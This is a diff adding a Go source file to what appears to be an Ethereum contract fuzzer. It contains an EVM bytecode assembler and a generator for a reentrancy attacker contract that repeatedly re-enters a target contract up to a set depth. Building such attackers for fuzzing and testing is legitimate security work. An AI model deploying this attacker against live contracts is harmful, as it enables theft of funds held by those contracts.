@@ -0,0 +1,147 @@
+// Shelly
+
+package ecffuzz
+
+import (
+	"math/big"
+
+	"github.com/ethereum/go-ethereum/common"
+	"github.com/ethereum/go-ethereum/core/vm"
+)
+
+// program assembles EVM bytecode, resolving the labels pushed before they are
+// placed
+type program struct {
+	code   []byte
+	labels map[string]int
+	fixups map[int]string // Position of a PUSH2 operand -> label it refers to
+}
+
+func newProgram() *program {
+	return &program{labels: make(map[string]int), fixups: make(map[int]string)}
+}
+
+func (p *program) op(ops ...vm.OpCode) {
+	for _, op := range ops {
+		p.code = append(p.code, byte(op))
+	}
+}
+
+// push adds the shortest PUSH of the given value
+func (p *program) push(value []byte) {
+	for len(value) > 1 && value[0] == 0 {
+		value = value[1:]
+	}
+	if len(value) == 0 {
+		value = []byte{0}
+	}
+	p.code = append(p.code, byte(vm.PUSH1)+byte(len(value)-1))
+	p.code = append(p.code, value...)
+}
+
+func (p *program) pushInt(value int) {
+	p.push(big.NewInt(int64(value)).Bytes())
+}
+
+// pushLabel adds a PUSH2 of the position of the label
+func (p *program) pushLabel(label string) {
+	p.op(vm.PUSH2)
+	p.fixups[len(p.code)] = label
+	p.code = append(p.code, 0, 0)
+}
+
+// jumpdest places a label on a JUMPDEST
+func (p *program) jumpdest(label string) {
+	p.mark(label)
+	p.op(vm.JUMPDEST)
+}
+
+// mark places a label on the next byte, e.g. the start of appended data
+func (p *program) mark(label string) {
+	p.labels[label] = len(p.code)
+}
+
+func (p *program) data(data []byte) {
+	p.code = append(p.code, data...)
+}
+
+func (p *program) assemble() []byte {
+	for pos, label := range p.fixups {
+		target := p.labels[label]
+		p.code[pos], p.code[pos+1] = byte(target>>8), byte(target)
+	}
+	return p.code
+}
+
+// attackerRuntime returns the code of an attacker contract. Called by its owner,
+// it sets its re-entry budget to depth and forwards the call data and value to the
+// target. Called by anyone else, e.g. by the target sending it ether, it calls
+// the target with the re-entry input as long as the budget lasts.
+func attackerRuntime(owner, target common.Address, depth int, reentry []byte) []byte {
+	p := newProgram()
+	p.push(owner.Bytes())
+	p.op(vm.CALLER, vm.EQ)
+	p.pushLabel("trigger")
+	p.op(vm.JUMPI)
+
+	// Callback: re-enter the target unless the budget is spent
+	p.pushInt(0)
+	p.op(vm.SLOAD, vm.DUP1, vm.ISZERO)
+	p.pushLabel("done")
+	p.op(vm.JUMPI)
+	p.pushInt(1)
+	p.op(vm.SWAP1, vm.SUB)
+	p.pushInt(0)
+	p.op(vm.SSTORE)
+	p.pushInt(len(reentry))
+	p.pushLabel("reentry")
+	p.pushInt(0)
+	p.op(vm.CODECOPY)
+	p.pushInt(0)
+	p.pushInt(0)
+	p.pushInt(len(reentry))
+	p.pushInt(0)
+	p.pushInt(0)
+	p.push(target.Bytes())
+	p.op(vm.GAS, vm.CALL, vm.POP, vm.STOP)
+
+	p.jumpdest("done")
+	p.op(vm.STOP)
+
+	// Trigger: reset the budget and forward the call to the target
+	p.jumpdest("trigger")
+	p.pushInt(depth)
+	p.pushInt(0)
+	p.op(vm.SSTORE)
+	p.op(vm.CALLDATASIZE)
+	p.pushInt(0)
+	p.pushInt(0)
+	p.op(vm.CALLDATACOPY)
+	p.pushInt(0)
+	p.pushInt(0)
+	p.op(vm.CALLDATASIZE)
+	p.pushInt(0)
+	p.op(vm.CALLVALUE)
+	p.push(target.Bytes())
+	p.op(vm.GAS, vm.CALL, vm.POP, vm.STOP)
+
+	p.mark("reentry")
+	p.data(reentry)
+	return p.assemble()
+}
+
+// creationCode wraps runtime code into code deploying it
+func creationCode(runtime []byte) []byte {
+	p := newProgram()
+	p.op(vm.PUSH2)
+	p.data([]byte{byte(len(runtime) >> 8), byte(len(runtime))})
+	p.op(vm.DUP1)
+	p.pushLabel("runtime")
+	p.pushInt(0)
+	p.op(vm.CODECOPY)
+	p.pushInt(0)
+	p.op(vm.RETURN)
+	p.mark("runtime")
+	p.data(runtime)
+	return p.assemble()
+}